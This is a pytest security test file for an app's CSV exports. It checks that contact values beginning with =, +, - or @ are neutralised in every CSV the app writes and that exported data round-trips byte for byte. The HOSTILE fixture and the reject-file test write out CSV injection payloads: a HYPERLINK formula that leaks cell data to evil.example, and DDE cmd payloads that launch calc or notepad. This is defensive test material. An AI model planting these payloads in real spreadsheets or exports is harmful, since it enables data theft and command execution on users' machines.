"""CSV files the app writes cannot run formulas in a spreadsheet, and round-trip.

Contacts whose values start with ``=``, ``+``, ``-`` or ``@`` (the five payloads a probe
used: ``=HYPERLINK(…)``, ``=cmd|…``, …) are exported by every CSV writer of the app —
``contacts export``, ``segment export-contacts``, the Segment - Contacts report, a
reject file — through real processes; no cell of any of them starts a formula, and an
export imported into a new database exports again byte for byte.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from tests.security.conftest import cli

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "company_name": "=cmd|' /C calc'!A0",
    "address": "+SUM(1+1)*cmd|' /C notepad'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "job_title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address_2": "'=already neutralised",
    "search_name": "''=two quotes",
    "county": "'s-Hertogenbosch",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _hostile_file(folder: Path) -> Path:
    """A contact file with the hostile values as they reach a user's CSV: quoted cells
    (the file is read as CSV, so these are the contacts' values once imported)."""
    path = folder / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["no", "type", *HOSTILE, "phone_no"])
        writer.writerow(["H1", "company", *HOSTILE.values(), "+44 20 7946 0958"])
        writer.writerow(["H2", "person", "-Ann", "=Adatum", "", "", "@home", "", "", "", ""])
    return path


def _formula_cells(path: Path) -> list[str]:
    """Cells of a CSV file that a spreadsheet would run as a formula."""
    with path.open(encoding="utf-8-sig", newline="") as source:
        sample = source.readline()
        source.seek(0)
        delimiter = ";" if sample.count(";") > sample.count(",") else ","
        return [c for row in csv.reader(source, delimiter=delimiter) for c in row
                if c.startswith(FORMULA_START)]  # fmt: skip


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    db = tmp_path / "hostile.db"
    status, _, err = cli(db, "contacts", "import", str(_hostile_file(tmp_path)))
    assert status == 0, err
    return db


def _stored(db: Path | str) -> dict[str, dict[str, str]]:
    status, out, err = cli(db, "contacts", "list", "--json")
    assert status == 0, err
    return {c["no"]: c for c in json.loads(out)}


def test_the_hostile_values_are_stored_as_they_are(hostile_db: Path) -> None:
    stored = _stored(hostile_db)["H1"]
    # The file's cells are read as values: "'=already…" is a neutralised "=already…".
    assert stored["name"] == HOSTILE["name"]
    assert stored["city"] == HOSTILE["city"]
    assert stored["address_2"] == "=already neutralised"
    assert stored["search_name"] == "'=two quotes"
    assert stored["county"] == "'s-Hertogenbosch"


def test_every_csv_the_app_writes_neutralises_formulas(hostile_db: Path, tmp_path: Path) -> None:
    status, out, err = cli(hostile_db, "segment", "new", "--description", "=1+1", "--json")
    assert status == 0, err
    segment = json.loads(out)["no"]
    assert cli(hostile_db, "segment", "add", segment, "--where", "no=H*")[0] == 0

    written = {
        "contacts export": tmp_path / "contacts.csv",
        "segment export-contacts": tmp_path / "segment-contacts.csv",
        "Segment - Contacts report": tmp_path / "report.csv",
    }
    assert cli(hostile_db, "contacts", "export", str(written["contacts export"]))[0] == 0
    assert (
        cli(hostile_db, "segment", "export-contacts", segment,
            str(written["segment export-contacts"]))[0] == 0
    )  # fmt: skip
    status, _, err = cli(
        hostile_db, "segment", "report", segment, "--out", str(written["Segment - Contacts report"])
    )
    assert status == 0, err
    for what, path in written.items():
        assert _formula_cells(path) == [], what
        cells = {c for row in csv.reader(path.open(encoding="utf-8")) for c in row}
        assert "'" + HOSTILE["name"] in cells, what
        assert "'" + HOSTILE["city"] in cells, what
    # The numbers of the report stay numbers: only text cells are neutralised.
    report = list(csv.DictReader(written["Segment - Contacts report"].open(encoding="utf-8")))
    assert {row["cost_lcy"] for row in report} == {"0.00"}
    assert {row["segment_description"] for row in report} == {"'=1+1"}


def test_export_import_export_is_byte_identical(hostile_db: Path, tmp_path: Path) -> None:
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    assert cli(hostile_db, "contacts", "export", str(first))[0] == 0
    fresh = tmp_path / "fresh.db"
    status, _, err = cli(fresh, "contacts", "import", str(first))
    assert status == 0, err
    assert cli(fresh, "contacts", "export", str(second))[0] == 0
    assert second.read_bytes() == first.read_bytes()
    keys = ("name", "company_name", "address", "city", "job_title", "address_2", "search_name")
    before, after = _stored(hostile_db), _stored(fresh)
    for no in ("H1", "H2"):
        assert {k: after[no][k] for k in keys} == {k: before[no][k] for k in keys}


def test_a_postgresql_export_imports_into_sqlite_byte_identical(
    hostile_db: Path, tmp_path: Path, pg_url: str
) -> None:
    first, second, third = (tmp_path / f"{n}.csv" for n in ("first", "second", "third"))
    assert cli(hostile_db, "contacts", "export", str(first))[0] == 0
    status, _, err = cli(pg_url, "contacts", "import", str(first))
    assert status == 0, err
    assert cli(pg_url, "contacts", "export", str(second))[0] == 0
    assert second.read_bytes() == first.read_bytes()
    assert cli(tmp_path / "back.db", "contacts", "import", str(second))[0] == 0
    assert cli(tmp_path / "back.db", "contacts", "export", str(third))[0] == 0
    assert third.read_bytes() == first.read_bytes()


def test_a_reject_file_is_neutralised_and_imports_back_to_the_same_values(
    tmp_path: Path,
) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        "no;name;city;email;phone_no\n"
        'B1;"=HYPERLINK(""http://evil.example"",""x"")";-Leeds;not an e-mail;+1 555 0100\n'
        "G1;Good Firm;York;;\n"
        "B2;'=kept;@home;also bad;\n",
        encoding="utf-8",
    )
    db = tmp_path / "r.db"
    status, out, err = cli(db, "contacts", "import", str(source), "--skip-bad")
    assert status == 0, err
    rejects = tmp_path / "in.rejects.csv"
    assert _formula_cells(rejects) == []
    rows = list(csv.reader(rejects.open(encoding="utf-8-sig"), delimiter=";"))
    assert rows[1][:5] == [
        "B1", '\'=HYPERLINK("http://evil.example","x")', "'-Leeds", "not an e-mail",
        "'+1 555 0100",
    ]  # fmt: skip
    assert rows[2][:3] == ["B2", "'=kept", "'@home"]

    # Fixed in a spreadsheet and imported again: the values are those of the first file.
    rows[1][3], rows[2][3] = "b1@example.com", "b2@example.com"
    with rejects.open("w", encoding="utf-8", newline="") as out_file:
        csv.writer(out_file, delimiter=";").writerows(rows)
    status, _, err = cli(db, "contacts", "import", str(rejects))
    assert status == 0, err
    stored = _stored(db)
    assert stored["B1"]["name"] == '=HYPERLINK("http://evil.example","x")'
    assert stored["B1"]["city"] == "-Leeds" and stored["B1"]["phone_no"] == "+1 555 0100"
    assert stored["B2"]["name"] == "=kept" and stored["B2"]["city"] == "@home"
